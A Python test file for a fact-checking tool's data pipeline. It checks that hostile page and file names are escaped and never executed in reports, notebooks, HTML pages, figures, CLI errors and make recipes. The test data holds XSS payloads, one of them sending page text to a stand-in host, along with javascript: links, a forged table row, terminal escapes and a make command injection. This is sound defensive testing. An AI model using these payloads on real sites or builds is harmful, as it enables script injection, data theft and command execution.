"""Issue 21: text a stranger wrote (a page's name, a file's name) runs no code and draws as typed.

A page's owner chooses its name, and a fact-checker's DATA folder holds files
named by whoever sent them. Each test plants such a string where an attacker
would (a tidy export's page, a CrowdTangle "Page Name", a file name with a
line break and a fake table row, a make parameter) and checks every place it
comes out: the import report, the captions shown in the notebooks, the HTML
pages of the executed notebooks and their Content-Security-Policy, the
figures' text, the command line's one-line errors, and make's recipes.
"""

from __future__ import annotations

import csv
import html
import io
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from likecheck import escape, outputs, plots
from likecheck.errors import DataError
from likecheck.importers import import_exports
from likecheck.importers.report import import_report
from likecheck.paths import FIGURES, ROOT
from likecheck.tools import site
from helpers import tree_digest

#: What an attacker names a page: markup that runs, a link, a formula, table syntax, a line break.
XSS = "<img src=x onerror=fetch('http://127.0.0.1:9/'+document.body.innerText)>"
HOSTILE = [
    XSS,
    "<script>alert(1)</script>",
    "</td></tr><tr><td>forged",
    "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png)",
    "Win $5 or $10 Club",
    "Bad $\\foo{$ page",
    "a | b | `c` | *d* ~~e~~ _f_",
    "line one\n| fake.csv | tidy-fans | fans | `" + "0" * 64 + "` |",
    "carriage\rreturn and escape \x1b[31mred\x1b[0m and \u2028separator",
    "&lt;script&gt; stays as typed",
    "https://evil.example/x and someone@evil.example and www.evil.example",
    "ក្រុងភ្នំពេញ (Khmer stays as it is)",
]


class Tags(HTMLParser):
    """Every start tag and its attributes, and the page's text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parsed(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    return tags


def rendered(markdown_text: str) -> str:
    """Markdown as the executed notebooks' HTML renders it (nbconvert's mistune)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune
    return markdown2html_mistune(markdown_text)


# --- escape: the one way strangers' text enters Markdown and HTML ----------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_escaping_renders_exactly_the_text_and_no_markup(text):
    shown = escape.markdown(text)
    assert "\n" not in shown and "\r" not in shown
    page = rendered(f"| file | x |\n|---|---|\n| {shown} | y |\n\n- {shown}\n")
    tags = parsed(page)
    assert {t for t, _ in tags.tags} <= {"table", "thead", "tbody", "tr", "th", "td", "ul", "li"}, page
    assert all(not attrs for _, attrs in tags.tags), page
    assert sum(1 for t, _ in tags.tags if t == "tr") == 2, page   # the header and one row, nothing forged
    cells = re.findall(r"<td>(.*?)</td>", page, re.S)
    assert html.unescape(cells[0]) == escape.one_line(text)
    assert html.unescape(re.search(r"<li>(.*?)</li>", page, re.S).group(1)) == escape.one_line(text)


def test_one_line_keeps_printable_text_and_shows_the_rest_as_escapes():
    assert escape.one_line("ក្រុង $5 <b>") == "ក្រុង $5 <b>"
    assert escape.one_line("a\nb\rc\x1b[0m\u2028d") == "a\\nb\\rc\\x1b[0m\\u2028d"
    assert escape.html("<a href='x'>&") == "&lt;a href=&#x27;x&#x27;&gt;&amp;"


# --- the import report --------------------------------------------------------------------------

def write_tidy_fans(path: Path, pages: list[str], days=("2016-03-08", "2016-03-09", "2016-03-16")) -> Path:
    """A tidy fan-count export (SYNTHETIC numbers) of `pages`, each with KH, IN and the rest of the world
    (ZZ, so the page's total is known and every like-origin figure is drawn) every day."""
    rows = [["page", "date", "country", "fans"]]
    for p, page in enumerate(pages):
        for d, day in enumerate(days):
            rows += [[page, day, "KH", 1000 + 100 * d + p], [page, day, "IN", 500 + 300 * d + p],
                     [page, day, "ZZ", 200 + 10 * d + p]]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_the_import_report_shows_hostile_page_and_file_names_as_typed(tmp_path):
    """Defect 1: a page name ran as script; a file name with a line break added a fake file and SHA-256."""
    folder = tmp_path / "exports"
    folder.mkdir()
    forged = "fans.csv\n| forged.csv | tidy-fans | fans | `" + "0" * 64 + "` |"
    write_tidy_fans(folder / forged, [XSS, "Win $5 or $10 Club"])
    (folder / "<svg onload=alert(1)>.txt").write_text("not an export\n")
    report = import_report(import_exports(folder))
    table = [line for line in report.splitlines() if line.startswith("| ")]
    assert len(table) == 2 and "forged.csv" in table[1] and "\\n" in table[1]   # one file, one row
    page = rendered(report)
    tags = parsed(page)
    assert not [t for t, a in tags.tags if t in ("img", "script", "svg")
                or t == "a" and a.get("class") != "anchor-link"], page   # nbconvert anchors its headings
    assert sum(1 for t, _ in tags.tags if t == "tr") == 2
    text = html.unescape("".join(tags.text))
    assert XSS in text and "Win $5 or $10 Club" in text and "<svg onload=alert(1)>.txt" in text


# --- captions, titles, alt text in the notebooks; figures' text ---------------------------------

def test_captions_shown_in_a_notebook_are_escaped_and_figures_draw_dollars_as_typed(tmp_path, monkeypatch):
    """Defects 1 and 8: captions were Markdown without escaping; '$' was drawn as mathtext and
    'Bad $\\foo{$ page' failed the run."""
    import IPython.display
    shown = []
    monkeypatch.setattr(IPython.display, "display", lambda *objects, **_: shown.extend(objects))
    pages = ["Win $5 or $10 Club", "Bad $\\foo{$ page", XSS]
    table = pd.DataFrame({"page_label": pages, "label": pages, "home_share_pct": [50.0, 60.0, 70.0]})
    fig = plots.share_points(table, x="home_share_pct", y="label", group="page_label",
                             xlabel="share of the page's fans in Cambodia (%)")
    title = "Latest share of fans in Cambodia: " + ", ".join(pages)
    outputs.save_figure(fig, "hostile", table, output_dir=tmp_path, notebook="test.ipynb", title=title,
                        caption=f"{pages[1]}: {XSS}", alt=f"Dot chart: {pages[0]}", source_line="Source: test",
                        source_ids=[])
    svg = (tmp_path / "hostile.svg").read_text(encoding="utf-8")
    assert "Win $5 or $10 Club" in svg and "Bad $\\foo{$ page" in svg
    assert html.escape(XSS, quote=False) in svg and XSS not in svg
    markdown = next(o for o in shown if isinstance(o, IPython.display.Markdown)).data
    tags = parsed(rendered(markdown))
    assert {t for t, _ in tags.tags} <= {"p", "strong", "em", "br"}, markdown
    text = html.unescape("".join(tags.text))
    assert title in text and f"{pages[1]}: {XSS}" in text and f"Dot chart: {pages[0]}" in text
    table_html = next(o for o in shown if isinstance(o, pd.DataFrame))._repr_html_()
    assert not [t for t, _ in parsed(table_html).tags if t in ("img", "script")]


def test_executed_notebook_pages_allow_no_script_at_all():
    """Defect 1: the pages' policy allowed inline script; an executed notebook runs none."""
    page = site.offline_page("<html><head></head><body><script>alert(1)</script></body></html>")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page).group(1)
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["script-src"] == "'none'" and directives["default-src"] == "'none'"
    assert "unsafe-inline" not in directives["script-src"]


# --- the command line's one-line errors -------------------------------------------------------

def test_a_file_name_with_a_line_break_or_an_escape_sequence_stays_on_one_line(tmp_path, capsys, monkeypatch):
    bad = tmp_path / "fans\n\x1b[2Jcleared.csv"
    bad.write_text("page,date,country,fans\nA,2016-03-08,KH,-5\n", encoding="utf-8")
    assert "\n" not in str(DataError(bad, "problem", line=2))
    from helpers import run_main
    status, err = run_main(capsys, monkeypatch, tmp_path, "--start", "2016-03-09", "--end", "2016-03-16",
                           "--data", str(bad))
    assert status == 2 and err.count("\n") == 1 and "\x1b" not in err and "fans\\n\\x1b[2Jcleared.csv" in err


# --- make hands parameters over as data ----------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("target,name", [("rerun", "START"), ("rerun", "END"), ("rerun", "DATA"),
                                         ("rerun", "OUT"), ("screen", "DATA"), ("screen", "PAGE"),
                                         ("bench", "POSTS")])
def test_make_expands_nothing_a_user_typed(tmp_path, target, name):
    """Defect 2: `make rerun START='2016-03-09$(shell touch x)'` created x: GNU make exports
    command-line variables, expanded, to every recipe. Every target that takes parameters; the
    Makefile unexports them all in one line, so PAGE stands for PAGE and FORMAT of rerun too
    (tests/test_rerun_safety.py hands each of them over with a shell's `$(...)` and backticks)."""
    canary = tmp_path / "x"
    typed = f"2016-03-09$(shell touch {canary})"
    params = {"rerun": {"START": "2016-03-09", "END": "2016-03-16"}, "screen": {}, "bench": {}}[target]
    params[name] = f"figures/{typed}" if name == "OUT" else typed
    if name in ("PAGE", "FORMAT"):   # so that the error is about the value typed
        params["DATA"] = str(write_tidy_fans(tmp_path / "fans.csv", ["A"]))
    before = tree_digest(FIGURES)
    result = subprocess.run(["make", "-s", "-C", str(ROOT), target, *(f"{k}={v}" for k, v in params.items())],
                            cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert result.returncode == 2, result.stderr
    assert not canary.exists() and not (ROOT / "x").exists()
    assert tree_digest(FIGURES) == before
    assert "$(shell touch" in result.stderr, result.stderr   # and it arrived as typed


# --- end to end: a rerun on an export whose page names and file name are hostile -----------------



@pytest.mark.slow
def test_a_rerun_on_hostile_names_runs_no_script_and_draws_them_as_typed(tmp_path, capsys, monkeypatch):
    """Defects 1 and 8 in a fresh attempt: the page names reach the import report, the notebook's
    Markdown, its tables, its figures' titles and labels, and the HTML pages; none runs, all read as typed."""
    from helpers import run_main
    folder = tmp_path / "exports"
    folder.mkdir()
    page = XSS + " Win $5 or $10 Club and Bad $\\foo{$ page"
    write_tidy_fans(folder / "fans <svg onload=alert(1)>.csv", [page])
    out = tmp_path / "out"
    status, err = run_main(capsys, monkeypatch, tmp_path, "--start", "2016-03-09", "--end", "2016-03-16",
                           "--data", str(folder), "--out", str(out))
    assert status == 0, err
    for html_page in sorted((out / "html").glob("*.html")):
        text = html_page.read_text(encoding="utf-8")
        assert "script-src 'none'" in text
        assert not [(t, a) for t, attrs in parsed(text).tags for a in attrs if a.lower().startswith("on")]
        assert "<img src=x" not in text and "<svg onload" not in text
        assert html.escape(XSS, quote=False) in text or html.escape(XSS) in text
    report = (out / "import_report.md").read_text(encoding="utf-8")
    assert not [t for t, _ in parsed(rendered(report)).tags if t in ("img", "svg", "script")]
    svg = (out / "figures" / "like_origin_home_shares.svg").read_text(encoding="utf-8")
    assert html.escape(page, quote=False) in svg and "<img" not in svg   # title and label, as typed
    assert svg.count("Win $5 or $10 Club and Bad $\\foo{$ page") >= 2
